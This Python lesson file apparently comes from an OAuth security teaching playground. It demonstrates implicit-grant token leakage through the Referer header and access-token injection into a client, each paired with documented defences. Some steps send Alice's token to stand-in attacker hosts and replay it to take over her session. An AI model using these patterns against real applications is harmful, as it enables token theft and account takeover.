"""Implicit grant: where the token leaks, and a token injected into the client."""

from urllib.parse import urlsplit

from playground import Lesson

PIXEL = "https://attacker.test/pixel.gif"
ANALYTICS_SDK = "https://sdk.attacker.test/collect"
ALICE = "u-1001"
REFUSAL = (
    "Legacy Gallery takes no access token as proof of who you are: it says what "
    "its holder may do at the API, not who is at the keyboard. Sign in with "
    "OpenID Connect."
)

lesson = Lesson(
    "Implicit grant: token leakage and token injection",
    level="intermediate",
    kind="attack",
    weakness=("client.unsafe_referrer_policy", "client.accept_any_token"),
    summary=(
        "Legacy Gallery's access token arrives in the URL and stays in the "
        "browser's history, which is why the implicit grant is deprecated. "
        "Part one: the app copies the token into the query, and its pages "
        "keep the old, lax referrer policy, so a third-party image carries "
        "the token to Mallory in the Referer header. Part two: Legacy Gallery "
        "signs in whoever hands it an access token of Alice's."
    ),
    defence="""
- **Do not use the implicit grant** (RFC 9700 2.1.2): the token travels in
  the front channel, where it leaks through history (RFC 9700 4.3.2) and,
  once in a query, through `Referer` (RFC 9700 4.2). Use the authorization
  code grant with PKCE: only a one-time code crosses the browser, and it is
  worthless without the code verifier.
- **Never put tokens in URLs** (RFC 6750 5.3, RFC 9700 4.3.2): not in the
  query, not by "moving the fragment" for the server's sake. Send
  `Referrer-Policy: no-referrer` on pages that handle credentials (RFC 9700
  4.2.4); the defended run does, and the image request carries no `Referer`
  at all. (Even the browsers' default, `strict-origin-when-cross-origin`,
  would send only the origin to another site.)
- **Do not take an access token as proof of sign-in** (access token
  injection, RFC 9700 4.6): it says what its holder may do at an API, not
  who is at the keyboard, and "there is no way to detect such an injection
  attack in pure-OAuth flows" (4.6.1); a client may not even inspect it
  (RFC 9068 6). The defended Legacy Gallery refuses every access token
  offered as a sign-in, its own included.
- **For sign-in, use OpenID Connect**: the ID token's `aud` is the client
  itself and its `nonce` belongs to this browser's request, and the client
  MUST check both (OIDC Core 3.1.3.7; lesson 08, attacks 15a and 15b).
""",
)


@lesson.step("Legacy Gallery gets Alice's token in the fragment")
def implicit_sign_in(run):
    """
    Lesson 05 in one go: Legacy Gallery asks for `response_type=token`,
    Alice signs in and approves, and the authorization server answers
    **302** with the access token in the `Location` **fragment**
    (`#access_token=eyJ...`, RFC 6749 4.2.2). The JWT panel decodes it:
    `client_id: legacy-gallery`.
    """
    url = run.legacy_app.authorization_url("basic photos.read", response_type="token")
    run.browser.open(url)
    run.browser.sign_in("alice", "wonderland")
    run.browser.follow_redirect()
    run.browser.approve()
    location = run.browser.redirect_location or ""
    run.gallery_token = run.browser.redirect_params.get("access_token", "")
    run.check("the authorization server answers 302", run.browser.status == 302)
    run.check(
        "the token is in the Location fragment",
        "access_token=" in urlsplit(location).fragment,
    )
    run.check(
        "it was issued to legacy-gallery",
        run.decode(run.gallery_token).claims.get("client_id") == "legacy-gallery",
    )


@lesson.step("The token stays in the browser's history")
def history(run):
    """
    The browser follows the redirect. `GET /legacy/callback` carries **no**
    token (a fragment never leaves the browser), but the address bar holds
    the whole URL, `#access_token=...` included, and so does the
    **history** (RFC 9700 4.3.2). Whoever uses this browser next, or reads
    its synced history, can copy the token; so can any script on the page.

    Look at the answer's `Referrer-Policy` header: the policy for every
    request this page makes. **Weakness on** (`client.unsafe_referrer_policy`):
    `no-referrer-when-downgrade`, the browsers' default before 2020, kept so
    the analytics see full page addresses. **Defended**: `no-referrer`.
    """
    run.browser.follow_redirect()
    callback = run.last_exchange
    policy = callback.response.header("Referrer-Policy")
    run.check(
        "the GET /legacy/callback request carries no token",
        "access_token" not in callback.request.url,
    )
    run.check(
        "the browser's history holds the access token",
        any(run.gallery_token in url for url in run.browser.history),
    )
    expected = "no-referrer-when-downgrade" if run.weakness_on else "no-referrer"
    run.check(f"the page's Referrer-Policy is {expected}", policy == expected, policy)


@lesson.step("A third-party image: the fragment stays home")
def referer_without_fragment(run):
    """
    The callback page shows an image from another site, an analytics pixel
    at `attacker.test`. Read the request: `GET /pixel.gif`, and its
    `Referer`.

    **Weakness on**: the lax policy sends the page's full address; but
    browsers never put the fragment in `Referer` (RFC 9110 10.1.3), so the
    token still does not reach Mallory. **Defended**: no `Referer` at all.
    """
    run.browser.load_image(PIXEL)
    referer = run.last_request.header("Referer")
    if run.weakness_on:
        run.check(
            "Referer names the callback page, without the fragment",
            referer == f"{run.client_url}/legacy/callback",
            str(referer),
        )
    else:
        run.check("the image request carries no Referer", referer is None)
    run.check("Mallory's site received no secret", not run.attacker.secrets_received())


@lesson.step("The app moves the token into the query")
def referer_with_query(run):
    """
    Legacy Gallery's script wants its server to see the token, so it sends
    the browser to the same page with the fragment moved into the **query**:
    `/legacy/callback?access_token=...`. (Asking for `response_mode=query`
    with `response_type=token` would be the same mistake.) Read the first
    request: the token now crosses the wire to the client's server, into its
    access logs, whatever the referrer policy.

    Then the page loads the same image. **Weakness on**: `Referer` carries
    the query, so Mallory's site receives Alice's token; she calls the photos
    API with it: **200**, Alice's profile. Two ordinary mistakes made this
    (RFC 9700 4.2, RFC 6750 5.3): the token in a URL, and a lax referrer
    policy. **Defended**: no `Referer`; Mallory gets nothing.
    """
    fragment = urlsplit(run.browser.address).fragment
    run.browser.navigate_from_script(f"{run.client_url}/legacy/callback?{fragment}")
    run.browser.load_image(PIXEL)
    stolen = run.attacker.loot("access_token")
    run.check(
        "the request to the client now carries the token in its URL",
        run.gallery_token in run.exchanges[0].request.url,
    )
    if run.weakness_on:
        referer_loot = [
            item for item in run.attacker.site.loot if item.via == "referer"
        ]
        profile = run.attacker.call_api("/api/user", stolen[-1] if stolen else "")
        run.check(
            "Mallory's site got Alice's token from the Referer header",
            stolen == [run.gallery_token]
            and any(item.name == "access_token" for item in referer_loot),
        )
        run.check(
            "with it, Mallory reads Alice's profile (200)",
            profile.status_code == 200 and profile.json().get("id") == ALICE,
        )
    else:
        run.check(
            "the image request carries no Referer",
            run.last_request.header("Referer") is None,
        )
        run.check("Mallory's site received no token", stolen == [])


@lesson.step("Mallory gets a token of Alice's from another app")
def token_from_another_app(run):
    """
    Part two: **token injection**. Alice also uses **Photo Uploader**, the
    desktop app of lesson 03b, and signs in to it (code and PKCE, through
    her browser). The app embeds a third-party analytics SDK, which is
    Mallory's; it reports the app's requests home, bearer token included.
    Read the last request: from the **client** to `sdk.attacker.test`, with
    `access_token=...` in the body.

    The token is Alice's (`sub: u-1001`), issued to `photo-uploader-native`.
    (Had part one leaked Legacy Gallery's own token, it would serve Mallory
    just as well: nothing in an access token says who holds it.)
    """
    app = run.native_app
    run.browser.open(app.authorization_url("basic", pkce_method="S256"))
    run.browser.approve()  # Alice is still signed in at the AS (step 1)
    run.browser.follow_redirect()  # to the app's loopback listener
    response = app.exchange_code(run.browser.query_params["code"])
    token = response.json().get("access_token", "")
    app.http.post(ANALYTICS_SDK, data={"event": "api_call", "access_token": token})
    run.other_token = run.attacker.loot("access_token")[-1]
    claims = run.decode(run.other_token).claims
    run.check("Photo Uploader got a token (200)", response.status_code == 200)
    run.check("the SDK sent it to Mallory", run.other_token == token)
    run.check(
        "it is Alice's, issued to photo-uploader-native",
        claims.get("sub") == ALICE
        and claims.get("client_id") == "photo-uploader-native",
    )


@lesson.step("Mallory injects it into Legacy Gallery")
def inject(run):
    """
    Legacy Gallery's page script posts the token from the fragment to
    `POST /legacy/session`, and the server signs in "whoever the token
    belongs to". Mallory posts the same form herself, with Alice's Photo
    Uploader token (the request comes from the **Attacker** in the
    transcript).

    **Weakness on** (`client.accept_any_token`): the server asks the photos
    API who the token is for, gets Alice, and answers **200** *"Signed in as
    Alice Liddell."*, with a session cookie for Mallory. A token good at the
    API was taken as proof of who is at the keyboard (RFC 9700 4.6, RFC 6749
    10.16). Mallory could already call the API with this token; what the
    injection adds is Alice's **account at Legacy Gallery**.

    **Defended**: **401**: Legacy Gallery takes no access token as proof of
    sign-in, whoever it was issued to. It could not tell an injected token
    from its own anyway (RFC 9700 4.6.1), and may not inspect one (RFC 9068
    6); signing in is what OpenID Connect's ID token is for.
    """
    response = run.attacker.http.post(
        f"{run.client_url}/legacy/session",
        data={"access_token": run.other_token},
    )
    if run.weakness_on:
        run.check("Legacy Gallery answers 200", response.status_code == 200)
        run.check(
            'the page says "Signed in as Alice Liddell."',
            "Signed in as Alice Liddell." in response.text,
        )
        run.check(
            "Mallory holds a Legacy Gallery session cookie",
            any(
                cookie.name == "photoprint_session"
                for cookie in run.attacker.http.cookies.jar
            ),
        )
    else:
        run.check("Legacy Gallery answers 401", response.status_code == 401)
        run.check("the page says why", REFUSAL in response.text)
        run.check(
            "no session cookie for Mallory",
            response.headers.get("Set-Cookie") is None,
        )
